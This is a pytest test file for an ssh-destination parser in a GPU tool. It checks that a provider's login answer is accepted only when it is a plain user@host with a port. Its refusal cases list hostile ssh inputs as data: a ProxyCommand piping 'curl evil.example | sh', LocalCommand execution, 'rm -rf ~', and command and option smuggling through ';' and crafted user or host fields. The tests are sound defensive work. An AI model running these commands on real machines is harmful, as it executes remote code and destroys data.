"""The login command is built from the provider's answer only after parsing it as a plain ssh
destination: a provider's ssh options could run its code on the developer's machine."""

from __future__ import annotations

import pytest

from gpufed.login import Login, parse_ssh


def test_a_plain_ssh_answer_becomes_the_developers_own_command() -> None:
    assert parse_ssh("ssh gpufed-1@n1.example.net") == Login("gpufed-1", "n1.example.net", 22)
    assert parse_ssh("ssh -p 32768 gpufed@10.0.0.5") == Login("gpufed", "10.0.0.5", 32768)
    assert parse_ssh("ssh -l ubuntu -p 2222 [2001:db8::1]") == Login("ubuntu", "2001:db8::1", 2222)
    login = parse_ssh("ssh -p 2222 u@h.example")
    assert login.argv() == ["ssh", "-p", "2222", "u@h.example"]
    assert login.argv("/k/id", ["StrictHostKeyChecking=accept-new"], ["echo", "hi"]) == [
        "ssh", "-i", "/k/id", "-o", "StrictHostKeyChecking=accept-new", "-p", "2222", "u@h.example",
        "--", "echo", "hi",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "hostile",
    [
        "ssh -o ProxyCommand='curl evil.example | sh' u@h",
        "ssh -oLocalCommand=id -oPermitLocalCommand=yes u@h",
        "ssh -F /tmp/evil_config u@h",
        "ssh -J evil.example u@h",
        "ssh u@h 'rm -rf ~'",
        "ssh -p 99999 u@h",
        "ssh -p 22; touch /tmp/x",
        "ssh '-oProxyCommand=id'@h",
        "ssh u@-oProxyCommand=id",
        "ssh 'u;id'@h",
        "ssh u@h\x1b[2J",
        "bash -c id",
        "ssh",
        "ssh 'unterminated",
    ],
)
def test_an_answer_that_is_more_than_a_destination_is_refused(hostile: str) -> None:
    with pytest.raises(ValueError, match="provider"):
        parse_ssh(hostile)
